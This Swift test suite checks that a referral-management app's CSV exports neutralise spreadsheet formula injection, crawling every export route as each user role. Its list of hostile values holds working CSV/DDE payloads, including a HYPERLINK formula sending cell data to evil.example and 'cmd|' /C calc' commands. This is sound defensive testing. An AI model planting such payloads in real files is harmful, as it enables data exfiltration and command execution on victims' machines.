import Foundation
import Hummingbird
import HummingbirdTesting
import LinkwellCore
import LinkwellTesting
import LinkwellWeb
import Testing

/// Every CSV Linkwell writes goes through `CSVWriter`: text that could start a spreadsheet formula is
/// neutralised and everything is quoted correctly — checked on the writer, on the SQL form of the facts
/// export, and on every CSV route found by crawling the router with hostile values stored through the API.
@Suite("CSV exports", .closesStores)
struct CSVExportTests {
    /// Values an attacker would type: each formula trigger, with quotes, commas and line breaks inside.
    static let hostile = [
        #"=HYPERLINK("http://evil.example/?d="&A1,"Click me")"#,
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "Walks\n=2+2",
    ]
    static let triggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// An RFC 4180 reader written apart from Linkwell's own, so the test does not trust the code it checks.
    static func parse(_ text: String) -> [[String]]? {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false, wasQuoted = false
        var scalars = Array(text.unicodeScalars)[...]
        while let c = scalars.popFirst() {
            if quoted {
                if c == "\"" {
                    if scalars.first == "\"" { scalars.removeFirst(); cell.unicodeScalars.append("\"") } else { quoted = false }
                } else { cell.unicodeScalars.append(c) }
            } else if c == "\"" {
                guard cell.isEmpty, !wasQuoted else { return nil } // a quote in the middle of a bare cell
                quoted = true; wasQuoted = true
            } else if c == "," {
                row.append(cell); cell = ""; wasQuoted = false
            } else if c == "\r" {
                guard scalars.popFirst() == "\n" else { return nil } // a bare CR outside quotes
                row.append(cell); rows.append(row); row = []; cell = ""; wasQuoted = false
            } else if c == "\n" {
                return nil // lines end with CRLF
            } else {
                guard !wasQuoted else { return nil }
                cell.unicodeScalars.append(c)
            }
        }
        guard !quoted, row.isEmpty, cell.isEmpty else { return nil } // the last line ends with CRLF too
        return rows
    }

    /// No cell a spreadsheet would run: a cell may begin with a trigger only if it is a plain number.
    static func unsafeCells(_ rows: [[String]]) -> [String] {
        rows.flatMap { $0 }.filter { cell in
            guard let first = cell.unicodeScalars.first, triggers.contains(first) else { return false }
            return cell.range(of: #"^-?[0-9]+(\.[0-9]+)?$"#, options: .regularExpression) == nil
        }
    }

    @Test("The writer neutralises every trigger and quotes text so it reads back whole")
    func writer() throws {
        for value in Self.hostile + ["\r=1+1", "'=already", "a\"b", "plain", ""] {
            let document = CSVWriter.document(header: ["h"], rows: [[.text(value)], [.code(value)]])
            let rows = try #require(Self.parse(document.text), "\(value.debugDescription) → \(document.text.debugDescription)")
            let expected = Self.triggers.contains(value.unicodeScalars.first ?? " ") ? "'" + value : value
            #expect(rows == [["h"], [expected], [expected]], "\(value.debugDescription)")
            #expect(Self.unsafeCells(rows).isEmpty)
        }
        let numbers = CSVWriter.line([.number(-3), .number(Pence(-1250)), .number(2.5), .number(nil as Int?), .code("[c]"), .code("75+")])
        #expect(numbers == "-3,-12.50,2.5,,[c],75+\r\n", "numbers and safe codes stay bare")
        #expect(CSVWriter.line([.text("x")]) == "\"x\"\r\n", "text is always quoted")
    }

    @Test("The facts export's SQL lines are byte for byte the Swift ones, hostile values included", arguments: TestBackend.available)
    func factsLinesAgree(backend: TestBackend) async throws {
        let s = try await TestScheme.make(backend)
        var facts: [ReferralFact] = []
        for (i, value) in (Self.hostile + ["\r=CR", "\r\n=CRLF", "a\"b,c", "Café ☕", ""]).enumerated() {
            let id = try await s.casework.submitReferral(TestScheme.submission(givenName: "H\(i)", nhsNumber: nil), by: Principal(s.referrer)).referral.id
            var fact = try #require(try await s.store.referralFacts(after: nil, limit: 100).first { $0.referralID == id })
            fact.pathway = value
            fact.practiceID = String(value.reversed())
            try await s.store.saveFacts(InsightFacts(referral: fact, onward: []))
            facts.append(fact)
        }
        facts.sort { $0.referralID < $1.referralID }
        let page = try await s.store.referralFactLines(after: nil, limit: 100)
        #expect(page.text == facts.map(FactsExport.line).joined())
        let rows = try #require(Self.parse(FactsExport.header + page.text))
        #expect(Self.unsafeCells(rows).isEmpty)
        #expect(rows.dropFirst().map { $0[4] } == facts.map { Self.triggers.contains($0.pathway.unicodeScalars.first ?? " ") ? "'" + $0.pathway : $0.pathway })
    }

    @Test("Every CSV route, crawled from the router as every role, writes hostile values harmlessly",
          arguments: TestBackend.available.filter { $0 != .memory })
    func everyRoute(backend: TestBackend) async throws {
        let s = try await TestScheme.make(backend)
        // Organisations are named by whoever sets up the scheme (there is no API for it): one with a hostile name.
        let hostileOrg = Organisation(id: OrganisationID("org-hostile"), name: Self.hostile[0], kind: .vcse)
        try await s.store.createOrganisation(hostileOrg)
        try await s.store.createService(Service(id: ServiceID("svc-hostile"), organisationID: hostileOrg.id, name: Self.hostile[3],
                                                description: "x", category: Self.hostile[1], area: "Leeds"))
        let hostileProvider = try await s.accounts.createUser(email: "hostile@test.example", displayName: "Hos Tile", role: "provider",
                                                              organisationID: hostileOrg.id.rawValue, password: TestScheme.password)
        let router = try await buildRouter(configuration: s.configuration, store: s.store, env: s.env)
        let getRoutes = router.routes.filter { $0.method == .get }.map(\.path.description)
        try await Application(router: router).test(.router) { client in
            let api = APITests.Client(client: client, s: s)
            func string(_ text: String) -> String {
                String(data: try! JSONSerialization.data(withJSONObject: text, options: .fragmentsAllowed), encoding: .utf8)!
            }
            // Hostile free text through the API: referrals' pathways, a grant's title; then casework that puts
            // them in every export.
            var ids: [String: String] = [:]
            for (i, value) in Self.hostile.enumerated() {
                let body = APITests.referralJSON
                    .replacingOccurrences(of: #""givenName":"Margaret""#, with: #""givenName":"Hostile\#(i)""#)
                    .replacingOccurrences(of: #""nhsNumber":"9434765919""#, with: #""nhsNumber":null"#)
                    .replacingOccurrences(of: #""purposes":["#, with: #""purposes":["evaluation","#)
                    .replacingOccurrences(of: #""sourceType":"gp""#, with: #""sourceType":"gp","pathway":\#(string(value))"#)
                let id = try #require(try await api.call(.post, "/api/v1/referrals", as: s.referrer, json: body, expect: .created)["id"] as? String)
                ids["referral"] = id
                try await api.call(.post, "/api/v1/referrals/\(id)/accept", as: s.linkWorker, expect: .ok)
                try await api.call(.post, "/api/v1/referrals/\(id)/contacts", as: s.linkWorker,
                                   json: #"{"mode":"phone","durationMinutes":20,"successful":true}"#, expect: .ok)
                try await api.call(.post, "/api/v1/referrals/\(id)/administrations", as: s.linkWorker,
                                   json: #"{"instrumentId":"ons4","timepoint":"baseline","answers":{"life_satisfaction":3,"worthwhile":4,"happiness":3,"anxiety":8}}"#,
                                   expect: .created)
                // The hostile group has no governance checks recorded, so a supervisor refers with an override.
                let out = try await api.call(.post, "/api/v1/referrals/\(id)/onward-referrals", as: s.supervisor,
                                             json: #"{"serviceId":"svc-hostile","governanceOverride":"Checks requested"}"#, expect: .created)
                let onward = try #require(((out["onwardReferrals"] as? [[String: Any]])?.first)?["id"] as? String)
                ids["onward"] = onward
                try await api.call(.post, "/api/v1/onward-referrals/\(onward)/accept", as: hostileProvider, expect: .ok)
            }
            let funder = try #require(try await api.call(.post, "/api/v1/funders", as: s.commissioner, json: #"{"name":"=ICB()","kind":"icb"}"#, expect: .created)["id"] as? String)
            let contract = try #require(try await api.call(.post, "/api/v1/contracts", as: s.commissioner, json: """
                {"name":\(string(Self.hostile[2])),"start":"2000-01-01","end":"2100-12-31","contributions":{"\(funder)":"1000"},"grantBudget":"500"}
                """, expect: .created)["id"] as? String)
            let grant = try #require(try await api.call(.post, "/api/v1/grants", as: hostileProvider,
                                                        json: #"{"contractID":"\#(contract)","title":\#(string(Self.hostile[4])),"purpose":"P","amount":"100"}"#, expect: .created)["id"] as? String)
            try await api.call(.post, "/api/v1/grants/\(grant)/decision", as: s.commissioner, json: #"{"award":true}"#, expect: .ok)
            ids["contract"] = contract
            ids["grant"] = grant

            // Every GET route of the router, as every role, with each parameter filled from what exists.
            let tables = try #require((try await api.call(.get, "/api/v1/insight", as: s.supervisor, expect: .ok)["tables"] as? [[String: Any]])?
                .compactMap { $0["name"] as? String })
            let values: [String: [String]] = [
                "id": [ids["referral"]!, ids["onward"]!, contract, grant, "svc-hostile", funder],
                "table": tables + tables.map { $0 + ".csv" },
                "file": ["evaluation.csv", "dictionary.csv", "ledger.csv"],
                "onward": [ids["onward"]!],
                "token": ["not-a-real-link"],
                "list": CodeListKind.allCases.map(\.rawValue),
            ]
            var uris: [(template: String, uri: String)] = []
            for template in getRoutes {
                var expanded = [template]
                for component in template.split(separator: "/") where component.contains("{") {
                    let name = String(component.drop { $0 != "{" }.dropFirst().prefix { $0 != "}" })
                    let candidates = try #require(values[name], "no test values for the parameter '\(name)' of \(template): add some")
                    expanded = expanded.flatMap { uri in candidates.map { uri.replacingOccurrences(of: "{\(name)}", with: $0) } }
                }
                for uri in expanded {
                    let variants = uri.hasPrefix("/api/") ? ["", "?format=csv", "?format=dictionary"] : [""]
                    uris += variants.map { (template, uri + $0) }
                }
            }
            let people = [s.referrer, s.linkWorker, s.supervisor, hostileProvider, s.admin, s.commissioner]
            var found: [String: [String]] = [:]
            for user in people {
                let browser = WebPagesTests.Browser(client)
                #expect(try await browser.signIn(user.email).status == .seeOther)
                let token = try await s.token(for: user)
                // Every route first, then (breadth first, up to a bound) the links on the pages they return.
                var queue = uris, seen = Set<String>(), next = 0
                while next < queue.count {
                    let (template, uri) = queue[next]
                    next += 1
                    guard seen.insert(uri).inserted else { continue }
                    let response: TestResponse
                    if uri.hasPrefix("/api/") {
                        response = try await client.execute(uri: uri, method: .get, headers: [.authorization: "Bearer \(token)"])
                    } else {
                        response = try await browser.go(.get, uri).0
                    }
                    #expect(response.status.code < 500, "\(uri) as \(user.role): \(response.status)")
                    let body = String(buffer: response.body)
                    if response.headers[.contentType]?.hasPrefix("text/csv") == true {
                        found[template, default: []].append(body)
                    } else if response.headers[.contentType]?.hasPrefix("text/html") == true, queue.count < uris.count + 400 {
                        // Links on pages (e.g. "Download as CSV" with the page's filters) are crawled too.
                        for match in body.matches(of: /href="(\/[^"#]*)"/) {
                            let href = String(match.1).replacingOccurrences(of: "&amp;", with: "&")
                            if !seen.contains(href) { queue.append(("link " + (href.split(separator: "?").first.map(String.init) ?? href), href)) }
                        }
                    }
                }
            }

            // The CSV routes that exist today must all have been found (a new one is found the same way).
            let expected = ["/insight/export/facts.csv", "/insight/{table}", "/api/v1/insight/{table}", "/outcomes/export/{file}",
                            "/api/v1/outcomes/export", "/api/v1/contracts/{id}/ledger"]
            for template in expected { #expect(found[template] != nil, "no CSV found at \(template); found \(found.keys.sorted())") }
            var neutralised = Set<String>()
            for (template, bodies) in found {
                for body in bodies {
                    let rows = try #require(Self.parse(body), "\(template) is not RFC 4180 CSV: \(body.prefix(300).debugDescription)")
                    #expect(Self.unsafeCells(rows).isEmpty, "\(template): \(Self.unsafeCells(rows))")
                    for cell in rows.flatMap({ $0 }) where cell.hasPrefix("'") { neutralised.insert(String(cell.dropFirst())) }
                }
            }
            // The hostile values really reached the files (and came out whole and neutralised).
            // (As stored: the referral form trims surrounding white space, so "\t=1+1" is kept as "=1+1".)
            for value in Self.hostile.map({ $0.trimmingCharacters(in: .whitespacesAndNewlines) }) where Self.triggers.contains(value.unicodeScalars.first!) {
                #expect(neutralised.contains(value), "\(value.debugDescription) never reached a CSV")
            }
            for csv in found.values.flatMap({ $0 }) { #expect(!csv.contains("Hostile"), "no names in any CSV") }
        }
        try await s.store.shutdown()
    }
}
